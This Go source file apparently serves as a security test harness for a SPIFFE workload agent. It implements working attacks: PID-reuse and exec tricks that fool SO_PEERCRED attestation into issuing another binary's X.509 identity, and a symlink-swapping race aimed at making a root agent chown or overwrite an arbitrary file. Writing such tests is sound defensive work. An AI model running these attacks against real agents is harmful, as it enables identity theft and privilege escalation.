package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/proto"

	workload "github.com/spiffe/go-spiffe/v2/proto/spiffe/workload"
	"github.com/spiffe/go-spiffe/v2/workloadapi"
)

// The attacks on workload attestation (issue 12, item 1). The attacker
// runs as this binary, connects to the agent, and makes SO_PEERCRED name a
// process that then executes the victim binary (the one an entry selects
// by path or hash), while another process (its child) does the talking:
//
//   - fork-exec: the child sends the request with an unmodified go-spiffe
//     client over the inherited connection;
//   - write-exec: the attacker writes the whole request itself first, then
//     executes the victim; the child reads the answer (and answers PINGs);
//   - ping-exec: like write-exec, but the attacker also answers the
//     agent's first PING before it executes the victim.
//
// The child prints "id=..." if the agent handed it an identity, else
// "error=...". The attacker process itself ends as the victim, sleeping.

func fail(format string, args ...any) {
	fmt.Printf("error=%s\n", strings.ReplaceAll(fmt.Sprintf(format, args...), "\n", " "))
	os.Exit(1)
}

func runAttack(mode, socket, victim string, timeout time.Duration) {
	if mode == "child" {
		runChild(socket, victim, timeout)
		return
	}
	// A raw socket: its descriptor has no close-on-exec, so the victim
	// inherits it too, as an attacker would arrange.
	fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
	if err != nil {
		fail("socket: %v", err)
	}
	if err := syscall.Connect(fd, &syscall.SockaddrUnix{Name: socket}); err != nil {
		fail("connect: %v", err)
	}
	f := os.NewFile(uintptr(fd), "agent")
	raw := mode
	switch mode {
	case "fork-exec":
	case "write-exec", "ping-exec":
		if _, err := f.Write(rawRequest()); err != nil {
			fail("write the request: %v", err)
		}
		if mode == "ping-exec" {
			fr := http2.NewFramer(f, f)
			for {
				fr2, err := fr.ReadFrame()
				if err != nil {
					fail("read: %v", err)
				}
				if p, ok := fr2.(*http2.PingFrame); ok && !p.IsAck() {
					if err := fr.WritePing(true, p.Data); err != nil {
						fail("ping: %v", err)
					}
					break
				}
			}
		}
	default:
		fail("unknown attack %q", mode)
	}
	self, err := os.Executable()
	if err != nil {
		fail("%v", err)
	}
	child := exec.Command(self, "-attack", "child", "-socket", socket, "-victim", victim, "-timeout", timeout.String(), "-parent", strconv.Itoa(os.Getpid()), "-raw", raw)
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	child.ExtraFiles = []*os.File{f}
	if err := child.Start(); err != nil {
		fail("start the child: %v", err)
	}
	// The process the agent attests becomes the victim.
	err = syscall.Exec(victim, []string{victim, "-sleep", "2m"}, os.Environ())
	fail("exec %s: %v", victim, err)
}

// rawRequest is a complete FetchX509SVID call as an HTTP/2 client writes it.
func rawRequest() []byte {
	var buf bytes.Buffer
	buf.WriteString(http2.ClientPreface)
	fr := http2.NewFramer(&buf, nil)
	fr.WriteSettings()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/SpiffeWorkloadAPI/FetchX509SVID"}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"workload.spiffe.io", "true"}} {
		enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true})
	fr.WriteData(1, true, []byte{0, 0, 0, 0, 0}) // an empty X509SVIDRequest
	return buf.Bytes()
}

var (
	parentFlag = flag.Int("parent", 0, "the attacker's PID (child mode)")
	rawFlag    = flag.String("raw", "", "the attack the child takes part in")
)

func runChild(socket, victim string, timeout time.Duration) {
	deadline := time.Now().Add(timeout)
	// Wait until the attacker has become the victim.
	exe := fmt.Sprintf("/proc/%d/exe", *parentFlag)
	for {
		if p, err := os.Readlink(exe); err == nil && p == victim {
			break
		}
		if time.Now().After(deadline) {
			fail("the parent did not execute %s", victim)
		}
		time.Sleep(5 * time.Millisecond)
	}
	conn, err := net.FileConn(os.NewFile(3, "agent"))
	if err != nil {
		fail("inherited connection: %v", err)
	}
	if *rawFlag == "fork-exec" {
		ctx, cancel := context.WithDeadline(context.Background(), deadline)
		defer cancel()
		dial := grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return conn, nil })
		svids, err := workloadapi.FetchX509SVIDs(ctx, workloadapi.WithAddr("unix://"+socket), workloadapi.WithDialOptions(dial))
		if err != nil {
			fail("%v", err)
		}
		ids := []string{}
		for _, s := range svids {
			ids = append(ids, s.ID.String())
		}
		fmt.Printf("id=%s\n", strings.Join(ids, ","))
		return
	}
	conn.SetDeadline(deadline)
	fr := http2.NewFramer(conn, conn)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		f, err := fr.ReadFrame()
		if err == io.EOF {
			fail("the agent closed the connection")
		}
		if err != nil {
			fail("read: %v", err)
		}
		switch f := f.(type) {
		case *http2.PingFrame:
			if !f.IsAck() {
				fr.WritePing(true, f.Data)
			}
		case *http2.SettingsFrame:
			if !f.IsAck() {
				fr.WriteSettingsAck()
			}
		case *http2.DataFrame:
			d := f.Data()
			if f.StreamID != 1 || len(d) < 5 {
				continue
			}
			var resp workload.X509SVIDResponse
			if err := proto.Unmarshal(d[5:], &resp); err != nil {
				fail("answer: %v", err)
			}
			ids := []string{}
			for _, s := range resp.Svids {
				ids = append(ids, s.SpiffeId)
			}
			fmt.Printf("id=%s\n", strings.Join(ids, ","))
			return
		case *http2.MetaHeadersFrame:
			if st := f.PseudoValue("status"); st != "" && st != "200" {
				fail("HTTP status %s", st)
			}
			for _, h := range f.RegularFields() {
				if h.Name == "grpc-status" && h.Value != "0" {
					fail("grpc-status %s: %s", h.Value, grpcMessage(f))
				}
			}
		case *http2.GoAwayFrame:
			fail("GOAWAY %v", f.ErrCode)
		}
	}
}

func grpcMessage(f *http2.MetaHeadersFrame) string {
	for _, h := range f.RegularFields() {
		if h.Name == "grpc-message" {
			return h.Value
		}
	}
	return ""
}

// runSwapper is the attack on --write ...,owner=USER (issue 12, item 2),
// run as that owner: it keeps replacing every name the agent writes in dir
// (which the owner may write) with a symbolic link to target, hoping the
// root agent follows one to chown or overwrite target. It prints "ready"
// after its first round.
func runSwapper(dir, target string) {
	names := []string{"cert.pem", "key.pem", "bundle.pem", "mutual.json", "..data"}
	tmp := fmt.Sprintf("%s/.swap-%d", dir, os.Getpid())
	for i := 0; ; i++ {
		for _, n := range names {
			os.Remove(tmp)
			if err := os.Symlink(target, tmp); err != nil {
				fail("symlink: %v", err)
			}
			os.Rename(tmp, dir+"/"+n)
		}
		// Also the temporary names a writer may use next to the target.
		if ents, err := os.ReadDir(dir); err == nil {
			for _, e := range ents {
				if strings.Contains(e.Name(), ".tmp") {
					os.Remove(dir + "/" + e.Name())
					os.Symlink(target, dir+"/"+e.Name())
				}
			}
		}
		if i == 0 {
			fmt.Println("ready")
		}
	}
}
